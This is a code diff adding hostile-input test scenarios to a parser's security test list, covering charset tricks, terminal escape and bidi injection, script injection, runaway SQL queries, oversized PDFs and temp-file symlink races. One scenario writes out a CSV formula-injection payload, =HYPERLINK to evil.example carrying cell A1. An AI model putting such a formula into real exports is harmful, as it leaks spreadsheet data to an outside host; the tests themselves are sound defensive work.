@@ -68,6 +68,10 @@ SCENARIOS: tuple[Scenario, ...] = (
         ("html_nested_tags", "HTML with 100,000 nested tags"),
         ("html_wrong_charset", "HTML declaring UTF-8 but written in Windows-1252"),
         ("html_unknown_charset", "HTML declaring a charset that does not exist"),
+        (
+            "html_http_charset",
+            "an Arabic page in windows-1256, its charset only in the HTTP header",
+        ),
         ("html_scripts", "HTML whose figures sit inside <script> and event handlers"),
         ("html_ragged_table", "an HTML table with ragged rows and absurd row/colspans"),
         ("html_overflow_numbers", "counts of 10^30 in a table and in words"),
@@ -90,6 +94,23 @@ SCENARIOS: tuple[Scenario, ...] = (
         ("dns_rebinding", "a name that resolves to one address, then to another"),
         ("redirect_robots", "a redirect to an allowed host whose robots.txt disallows it"),
         ("crawl_delay_day", "robots.txt asking for a Crawl-delay of 86,400 s"),
+        (
+            "terminal_markup",
+            "a title and report holding [/], [link=…], ANSI escapes and bidi "
+            "overrides, shown by toll ingest, sql, status, check and explain",
+        ),
+        (
+            "csv_formula",
+            'a title =HYPERLINK("http://evil.example/?"&A1,"Open report") exported as CSV and HXL',
+        ),
+        ("report_script_injection", "a script that slipped past the report's escaping"),
+        ("artifact_markdown", "Markdown links, images and HTML in a failure shown by Prefect"),
+        ("sql_memory", "a query needing gigabytes of memory (--memory-limit 64MB)"),
+        ("sql_forever", "a query that never ends (--timeout 1)"),
+        ("sql_settings", "a query changing settings or writing the temp folder"),
+        ("png_huge_page", "a 600-byte PDF with a 200-inch page, rendered by toll explain --png"),
+        ("png_paths", "toll explain --png pointed at a non-PNG path or an existing file"),
+        ("tmp_symlink", "a symlink planted at the predictable temporary name of an atomic write"),
     ),
 )
 SCENARIO_IDS = frozenset(s.id for s in SCENARIOS)
